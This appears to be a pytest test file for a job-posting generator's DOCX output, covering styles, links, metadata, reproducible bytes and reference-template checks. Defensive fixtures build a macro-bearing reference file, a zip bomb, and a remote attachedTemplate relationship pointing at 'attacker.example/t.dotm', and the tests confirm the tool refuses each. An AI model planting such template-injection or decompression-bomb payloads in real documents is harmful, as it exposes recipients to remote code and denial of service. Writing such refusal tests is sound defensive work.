"""DOCX output, checked by reopening the file with python-docx."""

from __future__ import annotations

import datetime as dt
import io
import subprocess
import sys
import zipfile
from pathlib import Path

import docx
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE

from jdgen.cli import main
from jdgen.render.docx import DocProperties, build_docx
from jdgen.render.docxbase import DocxBase
from jdgen.render.zipwriter import deflate, write_zip

NORTHWIND = [
    "director-of-operations", "--company", "Northwind Traders", "--industry", "logistics",
    "--focus", "supply-chain", "--location", "Denver, CO", "--hybrid",
    "--salary", "140000-175000", "--currency", "USD", "--reports-to", "Chief Operating Officer",
    "--team-size", "25", "--date", "2026-11-25",
]


PROPS = DocProperties("T", "S", "A", [], dt.date(2026, 1, 1))


def build(runner, *args: str) -> None:
    result = runner.invoke(main, ["build", *args], catch_exceptions=False)
    assert result.exit_code == 0, result.output


def styles(document) -> list[tuple[str, str]]:
    return [(p.style.name, p.text) for p in document.paragraphs]


def test_default_build_writes_one_docx_and_says_so(runner, tmp_path):
    result = runner.invoke(main, ["build", "coo", "--company", "Acme"])
    assert result.exit_code == 0
    assert result.stdout == "Wrote acme-coo.docx\n"
    assert [p.name for p in tmp_path.iterdir()] == ["acme-coo.docx"]


def test_docx_has_real_word_structure(runner, tmp_path):
    build(runner, *NORTHWIND, "--out", ".")
    document = docx.Document(str(tmp_path / "northwind-traders-director-of-operations.docx"))
    paras = styles(document)
    assert paras[:2] == [("Company Name", "Northwind Traders"),
                         ("Title", "Director of Operations (Supply Chain)")]
    headings = [text for style, text in paras if style == "Heading 1"]
    assert headings[:3] == ["The role", "What you will do", "What you bring"]
    assert "Equal opportunity" in headings
    areas = [text for style, text in paras if style == "Heading 2"]
    assert "Supplier and vendor management" in areas
    assert areas[0] != "Process optimization"  # the supply-chain focus leads with its own area
    facts = {row.cells[0].text: row.cells[1].text for row in document.tables[0].rows}
    assert facts["Location"] == "Denver, CO (hybrid)"
    assert facts["Pay"] == "$140,000–$175,000 per year"
    assert list(facts)[:2] == ["Company", "Location"]
    bullets = [text for style, text in paras if style == "List Bullet"]
    assert not any(text.startswith(("Location:", "Pay:")) for text in bullets)
    assert len(bullets) >= 18  # every duty, must-have, extra and outcome
    assert all(style != "Normal" or text for style, text in paras)


def test_fact_labels_are_bold_runs(runner, tmp_path):
    build(runner, "coo", "--company", "Acme", "--date", "2026-11-25")
    document = docx.Document(str(tmp_path / "acme-coo.docx"))
    label, value = document.tables[0].rows[0].cells
    assert label.paragraphs[0].runs[0].bold is True
    assert label.text == "Company"
    assert value.text == "Acme"
    assert value.paragraphs[0].runs[0].bold is None


def test_core_properties_describe_the_posting(runner, tmp_path):
    build(runner, *NORTHWIND)
    props = docx.Document(
        str(tmp_path / "northwind-traders-director-of-operations.docx")
    ).core_properties
    assert props.title == "Director of Operations (Supply Chain)"
    assert props.author == "Northwind Traders"
    assert props.subject == "Director of Operations (Supply Chain) at Northwind Traders"
    assert "supply chain" in props.keywords
    assert props.created.date().isoformat() == "2026-11-25"


def test_links_are_real_hyperlinks():
    data = build_docx(
        "# T\n\nApply at [our site](<https://example.com/jobs?a=1&b=2>) today.\n", PROPS
    )
    document = docx.Document(io.BytesIO(data))
    rels = [r for r in document.part.rels.values() if r.reltype == RELATIONSHIP_TYPE.HYPERLINK]
    assert [r.target_ref for r in rels] == ["https://example.com/jobs?a=1&b=2"]
    shown = "Apply at our site (https://example.com/jobs?a=1&b=2) today."
    assert document.paragraphs[2].text == shown


def test_nested_lists_emphasis_and_tables():
    markdown = (
        "# T\n\n- *one*\n  - **two**\n\n1. first\n\n| A | B |\n|---|---|\n| x | y |\n"
    )
    data = build_docx(markdown, PROPS)
    document = docx.Document(io.BytesIO(data))
    assert [(p.style.name, p.text) for p in document.paragraphs] == [
        ("Company Name", PROPS.author), ("Title", "T"), ("List Bullet", "one"),
        ("List Bullet 2", "two"), ("List Number", "first"),
    ]
    assert document.paragraphs[2].runs[0].italic is True
    assert document.paragraphs[3].runs[0].bold is True
    (table,) = document.tables
    assert [[c.text for c in row.cells] for row in table.rows] == [["A", "B"], ["x", "y"]]


def test_same_input_gives_identical_bytes(runner, tmp_path):
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    build(runner, *NORTHWIND, "--out", "a")
    build(runner, *NORTHWIND, "--out", "b")
    name = "northwind-traders-director-of-operations.docx"
    assert (tmp_path / "a" / name).read_bytes() == (tmp_path / "b" / name).read_bytes()


def test_zip_entries_have_fixed_times(runner, tmp_path):
    build(runner, "coo", "--company", "Acme", "--date", "2030-01-02")
    with zipfile.ZipFile(tmp_path / "acme-coo.docx") as archive:
        assert {info.date_time for info in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}


def test_source_date_epoch_sets_the_date(runner, tmp_path, monkeypatch):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1767225600")  # 2026-01-01
    build(runner, "coo", "--company", "Acme", "-f", "md")
    assert "- **Posted:** January 1, 2026" in (tmp_path / "acme-coo.md").read_text()


def _reference(path: Path) -> None:
    from docx.shared import Inches

    document = docx.Document()
    section = document.sections[0]
    section.left_margin = Inches(2)
    section.header.paragraphs[0].text = "ACME CONFIDENTIAL HEADER"
    document.styles["Heading 1"].font.name = "Georgia"
    document.add_paragraph("Old body text that must not survive")
    document.save(str(path))


def test_reference_docx_supplies_styles_margins_and_header(runner, tmp_path):
    _reference(tmp_path / "ref.docx")
    build(runner, "coo", "--company", "Acme", "--reference-docx", "ref.docx")
    document = docx.Document(str(tmp_path / "acme-coo.docx"))
    from docx.shared import Inches

    assert document.sections[0].left_margin == Inches(2)
    assert document.sections[0].header.paragraphs[0].text == "ACME CONFIDENTIAL HEADER"
    assert document.styles["Heading 1"].font.name == "Georgia"
    texts = [p.text for p in document.paragraphs]
    assert "Old body text that must not survive" not in texts
    assert texts[0] == "Chief Operating Officer"


def test_reference_docx_missing_styles_are_added(runner, tmp_path):
    document = docx.Document()
    styles_el = document.styles.element
    for name in ("List Bullet", "Title"):
        styles_el.remove(document.styles[name].element)
    document.save(str(tmp_path / "bare.docx"))
    build(runner, "coo", "--company", "Acme", "--reference-docx", "bare.docx")
    out = docx.Document(str(tmp_path / "acme-coo.docx"))
    assert out.paragraphs[0].style.name == "Title"
    assert any(p.style.name == "List Bullet" for p in out.paragraphs)


@pytest.mark.parametrize("bad", [b"PK\x03\x04not really", b"", b"<html>no</html>"])
def test_broken_reference_docx_is_refused(runner, tmp_path, bad):
    (tmp_path / "ref.docx").write_bytes(bad)
    result = runner.invoke(main, ["build", "coo", "--company", "Acme",
                                  "--reference-docx", "ref.docx"])
    assert result.exit_code == 1
    assert result.stderr.startswith("Error: ref.docx: not a DOCX file")
    assert not (tmp_path / "acme-coo.docx").exists()


def test_macro_reference_docx_is_refused(runner, tmp_path):
    buffer = io.BytesIO()
    docx.Document().save(buffer)
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("word/vbaProject.bin", b"macro")
    (tmp_path / "ref.docx").write_bytes(buffer.getvalue())
    result = runner.invoke(main, ["build", "coo", "--company", "Acme",
                                  "--reference-docx", "ref.docx"])
    assert result.exit_code == 1
    assert "contains macros" in result.stderr


def test_text_xml_cannot_hold_is_dropped_not_crashed():
    data = build_docx("# Title \x0b with tab\n", PROPS)
    assert docx.Document(io.BytesIO(data)).paragraphs[1].text == "Title  with tab"


# ------------------------------------------------------------- the fast path

RICH = (
    "# Operations lead\n\nJoin **Acme** and *grow* with `us`. Apply at [our site]"
    "(https://example.com/jobs) or [email](mailto:jobs@example.com), "
    "again at [the site](https://example.com/jobs).\n\n- one\n  - two\n\n1. first\n\n"
    "> Quoted\n\n## Facts\n\n| Fact | Value |\n|---|---|\n| Pay | $1 |\n"
)
RICH_PROPS = DocProperties("Operations lead", "Operations lead at Acme", "Acme",
                           ["operations", "lead"], dt.date(2026, 11, 25))


def _reference_bytes(link: str | None = None) -> bytes:
    from docx.shared import Inches

    document = docx.Document()
    document.sections[0].left_margin = Inches(2)
    document.styles["Heading 1"].font.name = "Georgia"
    document.add_paragraph("Old body")
    if link:  # a link the old body used: its relationship stays in the package
        document.part.relate_to(link, RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize("reference", [None, "ref"], ids=["default", "reference"])
def test_two_bases_build_identical_bytes(reference):
    ref = _reference_bytes() if reference else None
    first, second = DocxBase(ref), DocxBase(ref)
    built = [first.build(RICH, RICH_PROPS), first.build(RICH, RICH_PROPS),
             second.build(RICH, RICH_PROPS)]
    assert built[0] == built[1] == built[2]
    assert build_docx(RICH, RICH_PROPS, ref) == built[0]
    other = first.build(RICH.replace("Acme", "Globex"), RICH_PROPS)
    assert other != built[0]


def test_a_fresh_interpreter_builds_the_same_bytes(tmp_path):
    script = (
        "import datetime as dt, sys\n"
        "from jdgen.render.docx import DocProperties, build_docx\n"
        f"props = DocProperties({RICH_PROPS.title!r}, {RICH_PROPS.subject!r}, "
        f"{RICH_PROPS.author!r}, {RICH_PROPS.keywords!r}, dt.date(2026, 11, 25))\n"
        f"sys.stdout.buffer.write(build_docx({RICH!r}, props))\n"
    )
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, check=True)
    assert done.stdout == build_docx(RICH, RICH_PROPS)


@pytest.mark.parametrize("reference", [None, "ref"], ids=["default", "reference"])
def test_fast_path_document_reopens_with_styles_and_links(reference):
    ref = _reference_bytes() if reference else None
    document = docx.Document(io.BytesIO(DocxBase(ref).build(RICH, RICH_PROPS)))
    shown = styles(document)
    if reference is None:  # the house style names the company above the title
        assert shown.pop(0) == ("Company Name", "Acme")
    assert shown == [
        ("Title", "Operations lead"),
        ("Normal", "Join Acme and grow with us. Apply at our site (https://example.com/jobs) "
                   "or email (jobs@example.com), again at the site (https://example.com/jobs)."),
        ("List Bullet", "one"), ("List Bullet 2", "two"), ("List Number", "first"),
        ("Quote", "Quoted"), ("Heading 1", "Facts"),
    ]
    body = [p for p in document.paragraphs if p.style.name != "Company Name"]
    runs = body[1].runs
    assert [(r.text, r.bold, r.italic) for r in runs[:4]] == [
        ("Join ", None, None), ("Acme", True, None), (" and ", None, None),
        ("grow", None, True),
    ]
    assert runs[5].font.name == "Courier New"
    links = {r.rId: r.target_ref for r in document.part.rels.values()
             if r.reltype == RELATIONSHIP_TYPE.HYPERLINK}
    assert sorted(links.values()) == ["https://example.com/jobs", "mailto:jobs@example.com"]
    used = body[1]._p.xpath("w:hyperlink/@r:id")
    assert [links[rid] for rid in used] == [
        "https://example.com/jobs", "mailto:jobs@example.com", "https://example.com/jobs"]
    (table,) = document.tables
    assert [[c.text for c in row.cells] for row in table.rows] == [["Fact", "Value"],
                                                                   ["Pay", "$1"]]
    assert table.style.name == "Table Grid"
    assert table.rows[0]._tr.xpath("w:trPr/w:tblHeader/@w:val") == ["true"]
    props = document.core_properties
    assert (props.title, props.author, props.keywords) == ("Operations lead", "Acme",
                                                           "operations, lead")
    assert props.created.date() == dt.date(2026, 11, 25)
    georgia = document.styles["Heading 1"].font.name
    assert georgia == ("Georgia" if reference else None)  # the house font is the default


def test_links_reuse_and_never_clash_with_the_references_relationships():
    ref = _reference_bytes(link="https://example.com/jobs")
    document = docx.Document(io.BytesIO(DocxBase(ref).build(RICH, RICH_PROPS)))
    rels = document.part.rels
    hyperlinks = [r for r in rels.values() if r.reltype == RELATIONSHIP_TYPE.HYPERLINK]
    assert sorted(r.target_ref for r in hyperlinks) == [
        "https://example.com/jobs", "mailto:jobs@example.com"]
    assert len(set(rels)) == len(rels)


def test_core_properties_are_escaped_cleaned_and_capped():
    props = DocProperties("R&D <lead>\x01", "S", "A " * 200, ["x&y"], dt.date(2026, 1, 2))
    core = docx.Document(io.BytesIO(build_docx("# T\n", props))).core_properties
    assert core.title == "R&D <lead>"
    assert core.keywords == "x&y"
    assert len(core.author) == 255


def test_zip_writer_matches_zipfile_byte_for_byte():
    parts = [("[Content_Types].xml", b"<Types/>" * 50), ("word/empty.xml", b""),
             ("word/media/blob.bin", bytes(range(256)) * 40)]
    expected = io.BytesIO()
    with zipfile.ZipFile(expected, "w") as archive:
        for name, data in parts:
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            info.create_system = 3
            archive.writestr(info, data)
    assert write_zip(deflate(name, data) for name, data in parts) == expected.getvalue()


def _reference_with(extra: dict[str, bytes], replace: dict[str, bytes] | None = None) -> bytes:
    buffer = io.BytesIO()
    docx.Document().save(buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            archive.writestr(info.filename, (replace or {}).get(info.filename,
                                                                source.read(info.filename)))
        for name, data in extra.items():
            archive.writestr(name, data)
    return out.getvalue()


def test_zip_bomb_reference_is_refused_while_unpacking(runner, tmp_path, monkeypatch):
    from jdgen.render import docx as docx_module

    monkeypatch.setattr(docx_module, "MAX_REFERENCE_BYTES", 100_000)  # unpack limit 2 MB
    (tmp_path / "ref.docx").write_bytes(_reference_with({"word/media/big.bin": b"\0" * 3_000_000}))
    assert (tmp_path / "ref.docx").stat().st_size < 100_000  # small on disk, huge inside
    result = runner.invoke(main, ["build", "coo", "--company", "Acme",
                                  "--reference-docx", "ref.docx"])
    assert result.exit_code == 1
    assert result.stderr == ("Error: ref.docx: reference DOCX unpacks to more than 2,000,000 "
                             "bytes; refusing it\n")
    assert not (tmp_path / "acme-coo.docx").exists()


ATTACHED_TEMPLATE = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="https://attacker.example/t.dotm" '
    b'TargetMode="External"/></Relationships>'
)


def test_reference_with_a_remote_template_is_refused(runner, tmp_path):
    data = _reference_with({"word/_rels/settings.xml.rels": ATTACHED_TEMPLATE})
    (tmp_path / "ref.docx").write_bytes(data)
    result = runner.invoke(main, ["build", "coo", "--company", "Acme",
                                  "--reference-docx", "ref.docx"])
    assert result.exit_code == 1
    assert result.stderr == ("Error: ref.docx: reference DOCX links to outside content "
                             "(attachedTemplate); remove it and save the file again\n")


def test_reference_with_an_ordinary_hyperlink_is_accepted(runner, tmp_path):
    link = ATTACHED_TEMPLATE.replace(b"attachedTemplate", b"hyperlink")
    (tmp_path / "ref.docx").write_bytes(_reference_with({"word/_rels/settings.xml.rels": link}))
    result = runner.invoke(main, ["build", "coo", "--company", "Acme",
                                  "--reference-docx", "ref.docx"])
    assert result.exit_code == 0, result.stderr
